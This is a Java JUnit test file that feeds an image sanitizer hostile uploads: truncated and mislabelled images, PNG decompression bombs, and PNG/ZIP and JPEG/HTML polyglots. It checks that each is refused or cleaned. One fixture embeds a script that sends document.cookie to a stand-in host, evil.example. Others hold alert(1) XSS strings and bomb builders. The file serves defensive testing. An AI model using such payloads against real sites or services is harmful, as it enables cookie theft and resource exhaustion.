package ai.kaptura.adapter.storage;

import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.PLANTED;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.WEBP_LOSSLESS_600;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.WEBP_LOSSY_600;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.accepted;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.ascii;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.assertCarriesNoMetadata;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.concat;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.decode;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.deflatedZeros;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.directories;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.encode;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.ihdr;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.insertAfterSoi;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.jpeg;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.jpegSegments;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.latin1;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.markIn;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.picture;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.png;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.pngChunkTypes;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.readAll;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.rejected;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.segment;
import static ai.kaptura.adapter.storage.ImageSanitizerFixtures.withEveryKindOfMetadata;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import ai.kaptura.domain.headshot.AiMarker;
import ai.kaptura.ports.out.PhotoSanitizer;
import com.drew.metadata.exif.ExifThumbnailDirectory;
import com.drew.metadata.exif.GpsDirectory;
import com.drew.metadata.icc.IccDirectory;
import com.drew.metadata.iptc.IptcDirectory;
import com.drew.metadata.jpeg.JpegCommentDirectory;
import com.drew.metadata.xmp.XmpDirectory;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.time.Duration;
import java.util.Arrays;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Function;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A hostile corpus, generated here: every file is either refused with a sentence a person can read, or
 * comes out clean. Nothing throws, nothing hangs, nothing of the original metadata or of a smuggled
 * second file survives.
 */
class HostileInputsTest {

    private static final int W = 720;
    private static final int H = 560;

    private final PhotoSanitizer sanitizer = new ImageSanitizer(
            Optional.of(ImageSanitizerContractTest.HEIF_CONVERT).filter(Files::isExecutable));

    // ---- refused --------------------------------------------------------------------------------

    static Stream<Arguments> refused() {
        byte[] jpeg = jpeg(W, H);
        byte[] png = png(W, H);
        return Stream.of(
                Arguments.of("empty", new byte[0], "empty"),
                Arguments.of("a JPEG cut in half", Arrays.copyOf(jpeg, jpeg.length / 2), "incomplete"),
                Arguments.of(
                        "a JPEG cut just before its end marker", Arrays.copyOf(jpeg, jpeg.length - 2), "incomplete"),
                Arguments.of("a JPEG cut after its headers", Arrays.copyOf(jpeg, 700), "incomplete"),
                Arguments.of("a PNG cut in half", Arrays.copyOf(png, png.length / 2), "could not be read"),
                Arguments.of("a PNG cut after its header", Arrays.copyOf(png, 40), "could not be read"),
                Arguments.of(
                        "a lossy WebP cut in half",
                        Arrays.copyOf(WEBP_LOSSY_600, WEBP_LOSSY_600.length / 2),
                        "could not be read"),
                Arguments.of(
                        "a lossless WebP cut in half",
                        Arrays.copyOf(WEBP_LOSSLESS_600, WEBP_LOSSLESS_600.length / 2),
                        "could not be read"),
                Arguments.of(
                        "a JPEG under a GIF signature",
                        concat(ascii("GIF89a"), Arrays.copyOfRange(jpeg, 6, jpeg.length)),
                        "JPEG, PNG, WebP or HEIC"),
                Arguments.of("a PNG with one signature byte wrong", withByte(png, 1, 'Q'), "JPEG, PNG, WebP or HEIC"),
                Arguments.of("a real GIF", encode(picture(W, H), "gif"), "JPEG, PNG, WebP or HEIC"),
                Arguments.of("a real BMP", encode(picture(W, H), "bmp"), "JPEG, PNG, WebP or HEIC"),
                Arguments.of("a ZIP archive", zip(), "JPEG, PNG, WebP or HEIC"),
                Arguments.of(
                        "an MP4 video header",
                        concat(new byte[] {0, 0, 0, 0x18}, ascii("ftypisom\0\0\0\0isommp42")),
                        "JPEG, PNG, WebP or HEIC"),
                Arguments.of(
                        "an HTML page",
                        ascii("<!DOCTYPE html><html><script>alert(1)</script></html>"),
                        "JPEG, PNG, WebP or HEIC"),
                Arguments.of(
                        "a JPEG signature followed by HTML",
                        concat(
                                new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF},
                                ascii("<html><script>alert(1)</script></html>")),
                        "could not be read"),
                Arguments.of(
                        "a WebP whose picture chunk is missing",
                        Arrays.copyOf(WEBP_LOSSY_600, 20),
                        "could not be read"),
                // random bytes as a VP8 frame header declare a random size: any readable refusal will do
                Arguments.of(
                        "a WebP header followed by garbage",
                        concat(ascii("RIFF\u0000\u0010\u0000\u0000WEBPVP8 "), noise(5, 4000)),
                        ""),
                Arguments.of(
                        "a JPEG of 1 x 1 pixels",
                        encode(picture(1, 1), "jpg"),
                        "1×1 pixels; please upload one of at least 512×512."),
                Arguments.of(
                        "a PNG of 1 x 1 pixels",
                        encode(picture(1, 1), "png"),
                        "1×1 pixels; please upload one of at least 512×512."),
                Arguments.of(
                        "a PNG of 300 x 300 pixels",
                        png(300, 300),
                        "This photo is 300×300 pixels; please upload one of at least 512×512."),
                Arguments.of(
                        "a JPEG frame header claiming 60000 x 60000 over 720 x 560 data",
                        jpegClaiming(jpeg, 60_000, 60_000),
                        "60000×60000 pixels (3600 megapixels); please upload one of at most 40 megapixels."),
                Arguments.of(
                        "a JPEG frame header claiming 1 x 1 over 720 x 560 data",
                        jpegClaiming(jpeg, 1, 1),
                        "1×1 pixels"),
                Arguments.of(
                        "a PNG header claiming 60000 x 60000 with a token of data",
                        png(ihdr(60_000, 60_000), deflatedZeros(3 * 64 + 1)),
                        "3600 megapixels"),
                Arguments.of(
                        "a PNG bomb: 60000 x 60000 declared, 64 MB of zeros deflated into its data",
                        png(ihdr(60_000, 60_000), deflatedZeros(64L << 20)),
                        "3600 megapixels"),
                Arguments.of(
                        "a PNG of 6400 x 6400 (41 megapixels) declared",
                        png(ihdr(6_400, 6_400), deflatedZeros(1000)),
                        "at most 40 megapixels"),
                Arguments.of(
                        "a PNG of 30000 x 1000, too narrow to keep 512 pixels once scaled",
                        png(ihdr(30_000, 1_000), deflatedZeros(1000)),
                        "too long and narrow"));
    }

    @ParameterizedTest(name = "selfie: {0}")
    @MethodSource("refused")
    void a_hostile_selfie_is_refused_with_a_sentence(String what, byte[] content, String says) {
        PhotoSanitizer.Outcome outcome = neverThrows(() -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(content)));

        assertThat(rejected(outcome)).contains(says);
    }

    /**
     * A JPEG cut short whose end marker was stuck back on can look complete to every check but a full
     * decode. An upright baseline selfie is not decoded (its picture is kept as compressed, see
     * ImageSanitizer), so such a selfie is refused when its structure shows the cut, and otherwise sanitised:
     * what comes out never carries metadata. Headshots are decoded to be marked, so there it is refused.
     */
    @ParameterizedTest(name = "cut at {0} of the file")
    @ValueSource(doubles = {0.3, 0.5, 0.7, 0.9})
    void a_jpeg_cut_short_with_an_end_marker_stuck_on_is_refused_or_sanitised_never_passed_on(double cut) {
        byte[] full = withEveryKindOfMetadata(jpeg(W, H));
        byte[] patched = concat(Arrays.copyOf(full, (int) (full.length * cut)), new byte[] {(byte) 0xFF, (byte) 0xD9});

        PhotoSanitizer.Outcome selfie = neverThrows(() -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(patched)));
        PhotoSanitizer.Outcome headshot = neverThrows(
                () -> sanitizer.markHeadshot(new ByteArrayInputStream(patched), new AiMarker(UUID.randomUUID())));

        if (selfie instanceof PhotoSanitizer.Outcome.Accepted accepted) {
            try (PhotoSanitizer.Clean clean = accepted.image()) {
                assertCarriesNoMetadata(readAll(clean.open()));
            }
        } else {
            assertThat(rejected(selfie)).containsAnyOf("incomplete", "could not be read");
        }
        assertThat(headshot).isInstanceOf(PhotoSanitizer.Outcome.Rejected.class);
    }

    @ParameterizedTest(name = "headshot: {0}")
    @MethodSource("refused")
    void a_hostile_headshot_is_refused_with_a_sentence(String what, byte[] content, String says) {
        PhotoSanitizer.Outcome outcome = neverThrows(
                () -> sanitizer.markHeadshot(new ByteArrayInputStream(content), new AiMarker(UUID.randomUUID())));

        assertThat(rejected(outcome)).contains(says);
    }

    @Test
    void a_file_over15_mb_is_refused_after_reading_no_more_than15_mb_and_one_byte() {
        byte[] jpeg = jpeg(W, H);
        AtomicLong served = new AtomicLong();
        long size = 16L << 20;
        InputStream sixteenMegabytes = new InputStream() {
            @Override
            public int read() {
                long at = served.getAndIncrement();
                return at >= size ? -1 : at < jpeg.length - 2 ? jpeg[(int) at] & 0xff : 0;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                int n = 0;
                while (n < len) {
                    int c = read();
                    if (c < 0) {
                        served.decrementAndGet();
                        return n == 0 ? -1 : n;
                    }
                    b[off + n++] = (byte) c;
                }
                return n;
            }
        };

        String says = rejected(neverThrows(() -> sanitizer.sanitizeSelfie(sixteenMegabytes)));

        assertThat(says)
                .isEqualTo(
                        "This file is larger than 15 MB; please upload a smaller photo (a phone photo saved as JPEG is usually 2 to 6 MB).");
        assertThat(served.get()).as("bytes taken from the upload").isEqualTo(ImageSanitizer.MAX_BYTES + 1L);
    }

    @Test
    void a_file_of_exactly15_mb_is_not_refused_for_its_size() {
        byte[] jpeg = jpeg(W, H);
        // a real JPEG padded with trailing bytes after its end marker to exactly the limit
        byte[] atLimit = Arrays.copyOf(jpeg, ImageSanitizer.MAX_BYTES);

        ImageSanitizerFixtures.Out out = asSelfie(atLimit);

        assertThat(out.width()).isEqualTo(W);
    }

    static Stream<Arguments> breakingUploads() {
        byte[] jpeg = jpeg(W, H);
        Function<Integer, InputStream> ioFailure = at -> failingAfter(jpeg, at, new IOException("connection reset"));
        Function<Integer, InputStream> uncheckedFailure =
                at -> failingAfter(jpeg, at, new UncheckedIOException(new IOException("reset")));
        return Stream.of(
                Arguments.of("an I/O error half-way", ioFailure.apply(jpeg.length / 2)),
                Arguments.of("an I/O error at the first byte", ioFailure.apply(0)),
                Arguments.of("an unchecked error half-way", uncheckedFailure.apply(jpeg.length / 2)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("breakingUploads")
    void an_upload_that_breaks_off_is_refused_as_broken_off(String what, InputStream upload) {
        assertThat(rejected(neverThrows(() -> sanitizer.sanitizeSelfie(upload))))
                .isEqualTo("The upload stopped before the whole photo arrived; please try again.");
    }

    @Test
    void a_generated_image_that_breaks_off_is_refused_too() {
        byte[] png = png(W, H);

        assertThat(rejected(neverThrows(() -> sanitizer.markHeadshot(
                        failingAfter(png, png.length / 3, new IOException("reset")), new AiMarker(UUID.randomUUID())))))
                .contains("stopped before");
    }

    // ---- cleaned --------------------------------------------------------------------------------

    @Test
    void exif_with_gps_and_a_thumbnail_xmp_iptc_an_icc_comment_and_a_comment_are_all_gone() {
        byte[] planted = ImageSanitizerFixtures.withEveryKindOfMetadata(jpeg(W, H));
        assertThat(directories(planted))
                .as("the fixture plants every kind")
                .anyMatch(GpsDirectory.class::isInstance)
                .anyMatch(ExifThumbnailDirectory.class::isInstance)
                .anyMatch(XmpDirectory.class::isInstance)
                .anyMatch(IptcDirectory.class::isInstance)
                .anyMatch(IccDirectory.class::isInstance)
                .anyMatch(JpegCommentDirectory.class::isInstance);
        assertThat(latin1(planted)).contains(PLANTED + " colour lab").contains(PLANTED + " photographer");

        ImageSanitizerFixtures.Out out = asSelfie(planted);

        assertThat(out.mediaType()).isEqualTo("image/jpeg");
        assertThat(out.width()).isEqualTo(W);
        assertCarriesNoMetadata(out.bytes());
        assertThat(markIn(decode(out.bytes()), "top-left")).isEqualTo("red");
    }

    @Test
    void hundreds_of_huge_metadata_segments_are_dropped_without_trouble() {
        SplittableRandom random = new SplittableRandom(7);
        ByteArrayOutputStream segments = new ByteArrayOutputStream();
        for (int i = 0; i < 200; i++) {
            int marker = 0xE1 + i % 15; // APP1 to APP15
            byte[] data = new byte[60_000];
            random.nextBytes(data);
            System.arraycopy(ascii(PLANTED), 0, data, 100, PLANTED.length());
            segments.writeBytes(segment(marker, data));
        }
        segments.writeBytes(segment(0xFE, ascii(PLANTED.repeat(4000))));
        byte[] huge = insertAfterSoi(jpeg(W, H), segments.toByteArray());
        assertThat(huge.length).isBetween(12_000_000, ImageSanitizer.MAX_BYTES);

        ImageSanitizerFixtures.Out selfie = accepted(assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(huge))));
        ImageSanitizerFixtures.Out headshot = accepted(assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> sanitizer.markHeadshot(new ByteArrayInputStream(huge), new AiMarker(UUID.randomUUID()))));

        assertCarriesNoMetadata(selfie.bytes());
        assertThat(selfie.bytes().length).isLessThan(500_000);
        assertThat(latin1(headshot.bytes())).doesNotContain(PLANTED);
        assertThat(jpegSegments(headshot.bytes()))
                .as("the headshot keeps no APPn but its marker")
                .containsOnlyOnce(0xE1)
                .doesNotContain(0xE3, 0xE4, 0xE5, 0xE6, 0xE7, 0xE8, 0xE9, 0xEA, 0xEB, 0xEC, 0xED, 0xEF, 0xFE);
        assertThat(headshot.bytes().length).isLessThan(500_000);
    }

    @Test
    void a_zip_hidden_after_a_png_is_not_passed_on() {
        byte[] polyglot = concat(png(W, H), zip());
        assertThat(latin1(polyglot)).as("fixture: a PNG that is also a ZIP").contains("PK\u0003\u0004");

        ImageSanitizerFixtures.Out selfie = asSelfie(polyglot);
        ImageSanitizerFixtures.Out headshot = asHeadshot(polyglot);

        assertThat(latin1(selfie.bytes())).doesNotContain("PK\u0003\u0004").doesNotContain("secret.txt");
        assertThat(latin1(headshot.bytes())).doesNotContain("PK\u0003\u0004").doesNotContain("secret.txt");
        assertThat(pngChunkTypes(headshot.bytes())).last().isEqualTo("IEND");
    }

    @Test
    void html_hidden_in_a_jpeg_comment_and_after_its_end_is_not_passed_on() {
        String html = "<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>";
        byte[] polyglot = concat(insertAfterSoi(jpeg(W, H), segment(0xFE, ascii(html))), ascii(html));
        assertThat(latin1(polyglot)).as("fixture").contains("<script>");

        ImageSanitizerFixtures.Out selfie = asSelfie(polyglot);
        ImageSanitizerFixtures.Out headshot = asHeadshot(polyglot);

        assertThat(latin1(selfie.bytes())).doesNotContain("<script").doesNotContain("<html");
        assertThat(latin1(headshot.bytes())).doesNotContain("<script").doesNotContain("<html");
        byte[] end = Arrays.copyOfRange(headshot.bytes(), headshot.bytes().length - 2, headshot.bytes().length);
        assertThat(end).as("the headshot ends at its end-of-image marker").containsExactly(0xFF, 0xD9);
    }

    @Test
    void a_png_whose_data_inflates_far_beyond_its_header_is_decoded_only_as_far_as_the_header_says() {
        // 1000 x 1000 RGB needs 3 MB inflated; the data inflates to 256 MB (about 250 KB compressed).
        byte[] bomb = png(ihdr(1_000, 1_000), deflatedZeros(256L << 20));
        assertThat(bomb.length).isLessThan(1_000_000);

        ImageSanitizerFixtures.Out out = accepted(assertTimeoutPreemptively(
                Duration.ofSeconds(10), () -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(bomb))));

        assertThat(out.width()).isEqualTo(1_000);
        assertThat(decode(out.bytes()).getRGB(500, 500) & 0xffffff)
                .as("all black")
                .isLessThan(0x0a0a0a);
    }

    @Test
    void a_large_but_honest_png_is_decoded_subsampled_so_its_longer_side_is_at_most4096() {
        // 6000 x 6000 (36 megapixels, under the limit): decoded whole it would take 144 MB of heap.
        int side = 6_000;
        byte[] large = png(ihdr(side, side), deflatedZeros((long) side * (3L * side + 1)));

        ImageSanitizerFixtures.Out out = accepted(assertTimeoutPreemptively(
                Duration.ofSeconds(30), () -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(large))));

        assertThat(out.width()).isEqualTo(3_000);
        assertThat(out.height()).isEqualTo(3_000);
    }

    // ---- helpers --------------------------------------------------------------------------------

    /** {@code input} sanitised as a selfie: accepted, and no exception on the way. */
    private ImageSanitizerFixtures.Out asSelfie(byte[] input) {
        return accepted(neverThrows(() -> sanitizer.sanitizeSelfie(new ByteArrayInputStream(input))));
    }

    /** {@code input} marked as a headshot: accepted, and no exception on the way. */
    private ImageSanitizerFixtures.Out asHeadshot(byte[] input) {
        return accepted(neverThrows(
                () -> sanitizer.markHeadshot(new ByteArrayInputStream(input), new AiMarker(UUID.randomUUID()))));
    }

    private static PhotoSanitizer.Outcome neverThrows(java.util.function.Supplier<PhotoSanitizer.Outcome> call) {
        PhotoSanitizer.Outcome[] outcome = new PhotoSanitizer.Outcome[1];
        assertThatCode(() -> outcome[0] = call.get()).doesNotThrowAnyException();
        assertThat(outcome[0]).isNotNull();
        return outcome[0];
    }

    /** The JPEG with its baseline frame header (SOF0) rewritten to claim another size. */
    private static byte[] jpegClaiming(byte[] jpeg, int width, int height) {
        byte[] patched = jpeg.clone();
        for (int i = 2; i + 9 < patched.length; i++) {
            if ((patched[i] & 0xff) == 0xFF && (patched[i + 1] & 0xff) == 0xC0) {
                patched[i + 5] = (byte) (height >> 8);
                patched[i + 6] = (byte) height;
                patched[i + 7] = (byte) (width >> 8);
                patched[i + 8] = (byte) width;
                return patched;
            }
        }
        throw new AssertionError("no SOF0 in the fixture");
    }

    private static byte[] withByte(byte[] bytes, int at, char value) {
        byte[] changed = bytes.clone();
        changed[at] = (byte) value;
        return changed;
    }

    private static byte[] noise(long seed, int size) {
        byte[] bytes = new byte[size];
        new SplittableRandom(seed).nextBytes(bytes);
        return bytes;
    }

    private static byte[] zip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("secret.txt"));
            zip.write(ascii("a payload that must not be served from our domain"));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static InputStream failingAfter(byte[] content, int failAt, Exception failure) {
        return new InputStream() {
            private int served;

            @Override
            public int read() throws IOException {
                if (served >= failAt) {
                    if (failure instanceof IOException io) {
                        throw io;
                    }
                    throw (RuntimeException) failure;
                }
                return content[served++] & 0xff;
            }
        };
    }
}
